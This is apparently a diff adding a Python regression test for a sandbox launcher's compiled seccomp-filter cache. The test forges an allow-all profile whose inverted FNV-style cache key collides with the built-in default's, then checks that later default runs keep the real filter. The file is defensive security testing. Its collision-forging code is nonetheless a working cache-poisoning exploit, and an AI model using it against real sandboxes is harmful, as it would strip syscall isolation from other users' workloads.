@@ -1,0 +1,162 @@
+"""Security round 2 (issue 11): the holes a hostile review found, each
+reproduced as the attacker did it: as a plugin, as a plugin author who
+writes its own config, and as a second local user. A test fails when its
+attack works."""
+
+import ctypes
+import ctypes.util
+import json
+import os
+import random
+import struct
+import subprocess
+import unittest
+
+from crtest import CLEANROOM, LAUNCHER_ENV, base_config
+from esctest import EscapeTest
+
+AS_ROOT = os.geteuid() == 0
+NOBODY = 65534
+
+
+# ---------------------------------------------------------------------------
+# 1. The compiled-filter cache. The old key was a 64-bit FNV-style hash of
+# (kernel, libseccomp, version, caps, text), and a load compared only key,
+# text length and caps. Every step of that hash is invertible, so 16 chosen
+# bytes in a "comment" give an allow-all profile default's key and length:
+# run once, it was stored under default's name and every later "default"
+# run got its program. The test builds exactly that profile and checks that
+# a default run afterwards still has the default filter.
+# ---------------------------------------------------------------------------
+MASK = (1 << 64) - 1
+FNV_OFFSET = 0xcbf29ce484222325
+FNV_PRIME = 0x100000001b3
+FNV_PRIME_INV = pow(FNV_PRIME, -1, 1 << 64)
+OLD_MAGIC = b"CRBPF004"
+
+
+def fnv_word(h, w):
+    h = ((h ^ w) * FNV_PRIME) & MASK
+    return h ^ (h >> 29)
+
+
+def fnv_unword(h_after, w):
+    """The state before fnv_word(state, w) gave h_after."""
+    x = h_after ^ (h_after >> 29) ^ (h_after >> 58)
+    return ((x * FNV_PRIME_INV) & MASK) ^ w
+
+
+def old_fnv1a(h, data):
+    n = len(data) // 8 * 8
+    for i in range(0, n, 8):
+        h = fnv_word(h, int.from_bytes(data[i:i + 8], "little"))
+    for b in data[n:]:
+        h = ((h ^ b) * FNV_PRIME) & MASK
+    return h
+
+
+def old_fnv1a_backwards(h_end, data):
+    """The state before old_fnv1a(state, data) gave h_end (data starts at a
+    word boundary of the text)."""
+    n = len(data) // 8 * 8
+    h = h_end
+    for b in reversed(data[n:]):
+        h = ((h * FNV_PRIME_INV) & MASK) ^ b
+    for i in range(n - 8, -1, -8):
+        h = fnv_unword(h, int.from_bytes(data[i:i + 8], "little"))
+    return h
+
+
+def libseccomp_version():
+    lib = ctypes.CDLL(ctypes.util.find_library("seccomp") or "libseccomp.so.2")
+    lib.seccomp_version.restype = ctypes.POINTER(ctypes.c_uint * 3)
+    v = lib.seccomp_version().contents
+    return v[0], v[1], v[2]
+
+
+def old_key_prefix(version):
+    """The old key's state after everything but the profile text (caps 0)."""
+    h = old_fnv1a(FNV_OFFSET, os.uname().release.encode())
+    h = old_fnv1a(h, struct.pack("III", *libseccomp_version()))
+    h = old_fnv1a(h, OLD_MAGIC + version.encode() + b"\0")
+    return old_fnv1a(h, struct.pack("<Q", 0))
+
+
+def printable(word):
+    return all(0x20 <= c < 0x7f and c not in b'"\\' for c in word)
+
+
+def colliding_profile(target, prefix_state):
+    """An allow-all profile as long as `target` whose old key equals target's."""
+    head = b'{"defaultAction": "SCMP_ACT_ALLOW", "comment": "'
+    head += b"x" * (-len(head) % 8)
+    tail_fixed = b'"}\n'
+    pad = len(target) - len(head) - 16 - len(tail_fixed)
+    assert pad >= 0, "the built-in default is too short for the collision"
+    tail = b"y" * pad + tail_fixed
+    goal = old_fnv1a(prefix_state, target)
+    before_tail = old_fnv1a_backwards(goal, tail)
+    state = old_fnv1a(prefix_state, head)
+    rng = random.Random(11)
+    for _ in range(1_000_000):
+        w1 = bytes(rng.randrange(0x30, 0x7b) for _ in range(8))
+        t = fnv_word(state, int.from_bytes(w1, "little"))
+        # fnv_word(t, w2) must give before_tail
+        w2 = (fnv_unword(before_tail, 0) ^ t).to_bytes(8, "little")
+        if printable(w2):
+            return head + w1 + w2 + tail
+    raise AssertionError("no printable collision found")
+
+
+class FilterCachePoisoning(EscapeTest):
+
+    def builtin_default(self):
+        p = subprocess.run([CLEANROOM, "policy", "export", "default"], stdout=subprocess.DEVNULL,
+                           stderr=subprocess.PIPE, env=dict(LAUNCHER_ENV), timeout=30)
+        self.assertEqual(p.returncode, 0, p.stderr)
+        # run_e2e.py copies policies/default.json next to this module (--module)
+        path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "default.json")
+        self.assertTrue(os.path.exists(path), "test setup: policies/default.json was not copied here")
+        with open(path, "rb") as f:
+            return f.read()
+
+    def test_colliding_profile_does_not_replace_default(self):
+        version = subprocess.run([CLEANROOM, "--version"], stdout=subprocess.PIPE, check=True,
+                                 timeout=30).stdout.decode().split()[-1]
+        target = self.builtin_default()
+        prefix = old_key_prefix(version)
+        evil = colliding_profile(target, prefix)
+        # The profile really meets default under the old scheme: same key, same length.
+        self.assertEqual(len(evil), len(target))
+        self.assertEqual(old_fnv1a(prefix, evil), old_fnv1a(prefix, target))
+        json.loads(evil)
+
+        cache = self.make_dir("cache", 0o700)
+        env = dict(LAUNCHER_ENV, CLEANROOM_CACHE_DIR=cache)
+        with open(self.path("evil.json"), "wb") as f:
+            f.write(evil)
+        os.chmod(self.path("evil.json"), 0o644)
+        unshare = ["/usr/bin/unshare", "-r", "/usr/bin/id", "-u"]
+
+        # The plugin's own config names its profile: allow-all, so unshare works.
+        cfg = base_config(seccomp=self.path("evil.json"))
+        cfg["process"]["args"] = unshare
+        cfg["process"]["path"] = unshare[0]
+        res = self.run_cr(cfg, env=env)
+        self.assertEqual(res.rc, 0, "test setup: the allow-all profile did not run unshare" + res.describe())
+        self.assertEqual(res.out.strip(), "0", res.describe())
+
+        # Every later "default" run of this user must still get default's program.
+        for _ in range(2):
+            cfg = base_config(seccomp="default")
+            cfg["process"]["args"] = unshare
+            cfg["process"]["path"] = unshare[0]
+            res = self.run_cr(cfg, env=env)
+            self.assertNotEqual(res.out.strip(), "0",
+                                "ATTACK WORKED: a default run got the colliding profile's program" + res.describe())
+            self.assertNotEqual(res.rc, 0, res.describe())
+            self.assertIn("Operation not permitted", res.err, res.describe())
+
+
+if __name__ == "__main__":
+    unittest.main()
